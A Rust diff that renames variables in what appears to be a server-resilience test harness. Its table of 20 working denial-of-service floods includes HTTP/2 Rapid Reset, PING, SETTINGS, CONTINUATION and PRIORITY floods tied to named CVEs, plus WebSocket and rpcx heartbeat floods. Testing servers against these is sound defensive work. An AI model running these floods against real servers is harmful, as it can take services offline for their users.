@@ -3,8 +3,8 @@
 use std::io;
 use std::time::{Duration, Instant};
 
-use super::line::Line;
-use super::{Attack, End, Form, Outcome, Siege, attack};
+use super::connection::RawConnection;
+use super::{Attack, AttackContext, End, Form, Outcome, attack};
 use crate::raw::frames;
 use crate::raw::h2::{
     ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADER_TABLE_SIZE, HEADERS,
@@ -16,55 +16,55 @@ const SOON: End = End::Within(|_| Duration::from_secs(3));
 const COSTS_NO_MORE_THAN_HONEST_TRAFFIC: End = End::Held("costs no more than honest traffic");
 
 pub(super) const ATTACKS: [Attack; 20] = [
-    attack("rapid_reset", "7", "100,000 streams, each reset at once (CVE-2023-44487)", SOON, |siege| {
+    attack("rapid_reset", "7", "100,000 streams, each reset at once (CVE-2023-44487)", SOON, |context| {
         Box::pin(flood(
-            siege,
+            context,
             |_| {},
-            |frames, turn| {
-                frames.head(stream(turn), &echo());
-                frames.reset(stream(turn));
+            |frames, index| {
+                frames.head(stream(index), &echo());
+                frames.reset(stream(index));
             },
         ))
     }),
-    attack("ping", "flood", "PING without end (CVE-2019-9512)", SOON, |siege| {
-        Box::pin(flood(siege, |_| {}, |frames, _| frames.frame(PING, 0, 0, b"anybody?")))
+    attack("ping", "flood", "PING without end (CVE-2019-9512)", SOON, |context| {
+        Box::pin(flood(context, |_| {}, |frames, _| frames.frame(PING, 0, 0, b"anybody?")))
     }),
-    attack("settings", "flood", "SETTINGS without end (CVE-2019-9515)", SOON, |siege| {
-        Box::pin(flood(siege, |_| {}, |frames, _| frames.settings(&[])))
+    attack("settings", "flood", "SETTINGS without end (CVE-2019-9515)", SOON, |context| {
+        Box::pin(flood(context, |_| {}, |frames, _| frames.settings(&[])))
     }),
-    attack("settings_table_size", "flood", "SETTINGS that change the table of HPACK", SOON, |siege| {
+    attack("settings_table_size", "flood", "SETTINGS that change the table of HPACK", SOON, |context| {
         Box::pin(flood(
-            siege,
+            context,
             |_| {},
-            |frames, turn| {
-                frames.settings(&[(HEADER_TABLE_SIZE, if turn.is_multiple_of(2) { 0 } else { u32::MAX })]);
+            |frames, index| {
+                frames.settings(&[(HEADER_TABLE_SIZE, if index.is_multiple_of(2) { 0 } else { u32::MAX })]);
             },
         ))
     })
     .with_form(Form::FullOnly),
-    attack("empty_data", "flood", "empty DATA without end (CVE-2019-9518)", SOON, |siege| {
-        Box::pin(flood(siege, |frames| frames.head(1, &echo()), |frames, _| frames.frame(DATA, 0, 1, &[])))
+    attack("empty_data", "flood", "empty DATA without end (CVE-2019-9518)", SOON, |context| {
+        Box::pin(flood(context, |frames| frames.head(1, &echo()), |frames, _| frames.frame(DATA, 0, 1, &[])))
     }),
-    attack("empty_data_padded", "flood", "DATA of padding alone without end", SOON, |siege| {
+    attack("empty_data_padded", "flood", "DATA of padding alone without end", SOON, |context| {
         Box::pin(flood(
-            siege,
+            context,
             |frames| frames.head(1, &echo()),
             |frames, _| frames.frame(DATA, PADDED, 1, &[0]),
         ))
     })
     .with_form(Form::FullOnly),
-    attack("continuation_empty", "flood", "CONTINUATION without end (CVE-2024-27316)", SOON, |siege| {
-        Box::pin(flood(siege, begin_head, |frames, _| frames.frame(CONTINUATION, 0, 1, &[])))
+    attack("continuation_empty", "flood", "CONTINUATION without end (CVE-2024-27316)", SOON, |context| {
+        Box::pin(flood(context, begin_head, |frames, _| frames.frame(CONTINUATION, 0, 1, &[])))
     })
     .with_form(Form::FullOnly),
-    attack("continuation_long", "flood", "long CONTINUATION without end", SOON, |siege| {
-        Box::pin(flood(siege, begin_head, |frames, _| frames.frame(CONTINUATION, 0, 1, &[0x83; 16_384])))
+    attack("continuation_long", "flood", "long CONTINUATION without end", SOON, |context| {
+        Box::pin(flood(context, begin_head, |frames, _| frames.frame(CONTINUATION, 0, 1, &[0x83; 16_384])))
     }),
-    attack("priority", "flood", "PRIORITY without end (CVE-2019-9513)", SOON, |siege| {
-        Box::pin(flood(siege, |_| {}, |frames, turn| frames.frame(PRIORITY, 0, stream(turn), &[0; 5])))
+    attack("priority", "flood", "PRIORITY without end (CVE-2019-9513)", SOON, |context| {
+        Box::pin(flood(context, |_| {}, |frames, index| frames.frame(PRIORITY, 0, stream(index), &[0; 5])))
     }),
-    attack("unknown_frames", "flood", "frames of an unknown kind without end", SOON, |siege| {
-        Box::pin(flood(siege, |_| {}, |frames, _| frames.frame(0x77, 0, 0, b"unknown")))
+    attack("unknown_frames", "flood", "frames of an unknown kind without end", SOON, |context| {
+        Box::pin(flood(context, |_| {}, |frames, _| frames.frame(0x77, 0, 0, b"unknown")))
     })
     .with_form(Form::FullOnly),
     attack(
@@ -72,13 +72,13 @@ pub(super) const ATTACKS: [Attack; 20] = [
         "flood",
         "windows that overflow, so that the server resets (CVE-2025-8671)",
         SOON,
-        |siege| {
+        |context| {
             Box::pin(flood(
-                siege,
+                context,
                 |_| {},
-                |frames, turn| {
-                    frames.head(stream(turn), &echo());
-                    frames.window_update(stream(turn), LARGEST_WINDOW);
+                |frames, index| {
+                    frames.head(stream(index), &echo());
+                    frames.window_update(stream(index), LARGEST_WINDOW);
                 },
             ))
         },
@@ -88,25 +88,25 @@ pub(super) const ATTACKS: [Attack; 20] = [
         "flood",
         "windows that grow by nothing, so that the server resets",
         SOON,
-        |siege| {
+        |context| {
             Box::pin(flood(
-                siege,
+                context,
                 |_| {},
-                |frames, turn| {
-                    frames.head(stream(turn), &echo());
-                    frames.window_update(stream(turn), 0);
+                |frames, index| {
+                    frames.head(stream(index), &echo());
+                    frames.window_update(stream(index), 0);
                 },
             ))
         },
     )
     .with_form(Form::FullOnly),
-    attack("made_you_reset_half_closed", "flood", "DATA behind the end of a stream", SOON, |siege| {
+    attack("made_you_reset_half_closed", "flood", "DATA behind the end of a stream", SOON, |context| {
         Box::pin(flood(
-            siege,
+            context,
             |_| {},
-            |frames, turn| {
-                frames.frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), &echo());
-                frames.frame(DATA, 0, stream(turn), b"late");
+            |frames, index| {
+                frames.frame(HEADERS, END_HEADERS | END_STREAM, stream(index), &echo());
+                frames.frame(DATA, 0, stream(index), b"late");
             },
         ))
     })
@@ -116,12 +116,12 @@ pub(super) const ATTACKS: [Attack; 20] = [
         "flood",
         "a field of 4 KiB, a byte for each time it is meant (CVE-2016-6581)",
         End::Held("each fails its stream alone"),
-        |siege| {
+        |context| {
             Box::pin(flood(
-                siege,
+                context,
                 |frames| frames.call(1, &[echo(), large_field()].concat(), b"x"),
-                |frames, turn| {
-                    frames.head(stream(turn + 1), &[echo(), vec![0xbe; 16_000]].concat());
+                |frames, index| {
+                    frames.head(stream(index + 1), &[echo(), vec![0xbe; 16_000]].concat());
                 },
             ))
         },
@@ -131,7 +131,7 @@ pub(super) const ATTACKS: [Attack; 20] = [
         "flood",
         "WINDOW_UPDATE without end",
         COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
-        |siege| Box::pin(flood(siege, |_| {}, |frames, _| frames.window_update(0, 1))),
+        |context| Box::pin(flood(context, |_| {}, |frames, _| frames.window_update(0, 1))),
     )
     .with_form(Form::FullOnly),
     attack(
@@ -139,9 +139,9 @@ pub(super) const ATTACKS: [Attack; 20] = [
         "flood",
         "100 answers of 1 MiB that may only leave byte by byte (CVE-2019-9511)",
         COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
-        |siege| {
-            Box::pin(flood(siege, without_windows, |frames, turn| {
-                frames.window_update(stream(turn % 100), 1)
+        |context| {
+            Box::pin(flood(context, without_windows, |frames, index| {
+                frames.window_update(stream(index % 100), 1)
             }))
         },
     ),
@@ -150,7 +150,7 @@ pub(super) const ATTACKS: [Attack; 20] = [
         "flood",
         "acknowledgements of PING that nobody asked for",
         COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
-        |siege| Box::pin(flood(siege, |_| {}, |frames, _| frames.frame(PING, ACK, 0, b"anybody?"))),
+        |context| Box::pin(flood(context, |_| {}, |frames, _| frames.frame(PING, ACK, 0, b"anybody?"))),
     )
     .with_form(Form::FullOnly),
     attack(
@@ -158,21 +158,21 @@ pub(super) const ATTACKS: [Attack; 20] = [
         "kin",
         "pings of a WebSocket without end, pongs not read",
         COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
-        |siege| Box::pin(websocket(siege, frames::websocket(0x89, &[b'x'; 100]))),
+        |context| Box::pin(websocket(context, frames::websocket(0x89, &[b'x'; 100]))),
     ),
     attack(
         "websocket_fragments",
         "kin",
         "a message of a WebSocket in fragments that never end",
         COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
-        |siege| Box::pin(websocket(siege, frames::websocket(0x00, &[b'x'; 1_000]))),
+        |context| Box::pin(websocket(context, frames::websocket(0x00, &[b'x'; 1_000]))),
     ),
     attack(
         "rpcx_heartbeats",
         "kin",
         "heartbeats of rpcx without end, answers not read",
         COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
-        |siege| Box::pin(heartbeats(siege)),
+        |context| Box::pin(heartbeats(context)),
     ),
 ];
 
@@ -187,7 +187,7 @@ fn begin_head(frames: &mut Frames) {
 fn without_windows(frames: &mut Frames) {
     frames.settings(&[(INITIAL_WINDOW_SIZE, 0)]);
     let head = grpc_head("/Bare/Blob", &[]);
-    (0..100).for_each(|turn| frames.call(stream(turn), &head, b"x"));
+    (0..100).for_each(|index| frames.call(stream(index), &head, b"x"));
 }
 
 /// A header field that nearly fills the dynamic table.
@@ -196,50 +196,54 @@ fn large_field() -> Vec<u8> {
 }
 
 /// One connection that sends an opening, then repeats rounds as long as the server reads them.
-async fn flood(siege: Siege, opening: fn(&mut Frames), turn: fn(&mut Frames, usize)) -> io::Result<Outcome> {
-    const MOST: usize = 100_000;
+async fn flood(
+    context: AttackContext,
+    opening: fn(&mut Frames),
+    write_round: fn(&mut Frames, usize),
+) -> io::Result<Outcome> {
+    const MAX_ROUNDS: usize = 100_000;
     let mut frames = Frames::begin();
     opening(&mut frames);
-    let mut line = siege.line().await?;
-    line.expect_frames();
-    line.send(&frames.bytes).await;
-    let (begun, window) = (Instant::now(), siege.profile.window());
-    let mut turns = 0;
-    while turns < MOST && begun.elapsed() < window && !line.is_closed() {
+    let mut connection = context.connect().await?;
+    connection.expect_frames();
+    connection.send(&frames.bytes).await;
+    let (begun, window) = (Instant::now(), context.profile.window());
+    let mut rounds = 0;
+    while rounds < MAX_ROUNDS && begun.elapsed() < window && !connection.is_closed() {
         frames.bytes.clear();
         while frames.bytes.len() < 16 << 10 {
-            turn(&mut frames, turns);
-            turns += 1;
+            write_round(&mut frames, rounds);
+            rounds += 1;
         }
-        if !line.send(&frames.bytes).await {
+        if !connection.send(&frames.bytes).await {
             break;
         }
     }
-    Ok(siege.hold(vec![line]).await.note(format!("{turns} turns")))
+    Ok(context.hold(vec![connection]).await.note(format!("{rounds} rounds")))
 }
 
 /// Sends the same bytes repeatedly, and reads nothing.
-async fn repeat(siege: &Siege, line: &mut Line, bytes: &[u8]) {
+async fn repeat(context: &AttackContext, connection: &mut RawConnection, bytes: &[u8]) {
     let many = bytes.repeat((64 << 10) / bytes.len());
-    let (begun, window) = (Instant::now(), siege.profile.window());
-    while begun.elapsed() < window && line.send(&many).await {}
+    let (begun, window) = (Instant::now(), context.profile.window());
+    while begun.elapsed() < window && connection.send(&many).await {}
 }
 
-async fn websocket(siege: Siege, frame: Vec<u8>) -> io::Result<Outcome> {
-    let mut line = siege.line().await?;
-    line.ask(frames::WEBSOCKET).await;
+async fn websocket(context: AttackContext, frame: Vec<u8>) -> io::Result<Outcome> {
+    let mut connection = context.connect().await?;
+    connection.send_and_receive(frames::WEBSOCKET).await;
     // The first fragment of a message; pings may follow it.
-    line.send(&frames::websocket(0x02, b"x")).await;
-    let mut line = line.without_reading();
-    repeat(&siege, &mut line, &frame).await;
-    Ok(siege.hold(vec![line]).await)
+    connection.send(&frames::websocket(0x02, b"x")).await;
+    let mut connection = connection.without_reading();
+    repeat(&context, &mut connection, &frame).await;
+    Ok(context.hold(vec![connection]).await)
 }
 
-async fn heartbeats(siege: Siege) -> io::Result<Outcome> {
+async fn heartbeats(context: AttackContext) -> io::Result<Outcome> {
     let mut heartbeat = frames::rpcx("", "", 1, b"");
     // The heartbeat flag, in the third byte.
     heartbeat[2] |= 0x40;
-    let mut line = siege.line().await?.without_reading();
-    repeat(&siege, &mut line, &heartbeat).await;
-    Ok(siege.hold(vec![line]).await)
+    let mut connection = context.connect().await?.without_reading();
+    repeat(&context, &mut connection, &heartbeat).await;
+    Ok(context.hold(vec![connection]).await)
 }
